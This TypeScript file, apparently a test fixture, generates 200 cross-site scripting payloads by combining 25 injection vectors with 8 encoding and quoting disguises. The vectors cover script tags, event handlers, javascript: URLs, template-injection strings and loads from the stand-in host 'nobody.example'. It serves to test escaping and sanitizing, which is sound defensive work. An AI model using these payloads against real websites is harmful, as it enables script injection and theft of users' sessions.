/** 200 texts, each of which calls `xss(n)` or reaches out to NOBODY where markup, address or template is made of it. */

/** No request may go there. */
const NOBODY = 'nobody.example';

const VECTORS: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<a id=x tabindex=1 onfocus=${call} autofocus>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<details open ontoggle=${call}>x`,
  (call) => `<video src=x onerror=${call}>`,
  (call) => `<audio src=x onerror=${call}>`,
  (call) => `<style onload=${call}></style>`,
  (call) => `<body onload=${call}>`,
  (call) => `<iframe onload=${call}>`,
  (call) => `<iframe srcdoc="<img src=x onerror=parent.${call}>">`,
  (call) => `<object data=x onerror=${call}>`,
  (call) => `<link rel=stylesheet href=//${NOBODY} onerror=${call}>`,
  (call) => `<a href=javascript:${call}>x</a>`,
  (call) => `javascript:${call}`,
  (call) => `' onmouseover=${call} x='`,
  (call) => `" onpointerover=${call} x="`,
  (call) => `{${call}}`,
  (call) => `\${${call}}`,
  (call) => `{@html "<img src=x onerror=${call}>"}`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `<meta http-equiv=refresh content=0;url=//${NOBODY}/${call}>`,
  (call) => `<base href=//${NOBODY}><img src=${call}>`,
  (call) => `<style>@import'//${NOBODY}/${call}'</style>`,
];

const DISGUISES: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `-->${text}`,
  (text) => `</p></title>${text}`,
  (text) => text.replace(/<[a-z]+/gi, (tag) => tag.toUpperCase()),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll(' ', '/'),
];

export const XSS_PAYLOADS: readonly string[] = DISGUISES.flatMap((disguise, d) =>
  VECTORS.map((vector, v) => disguise(vector(`xss(${d * VECTORS.length + v})`))),
);
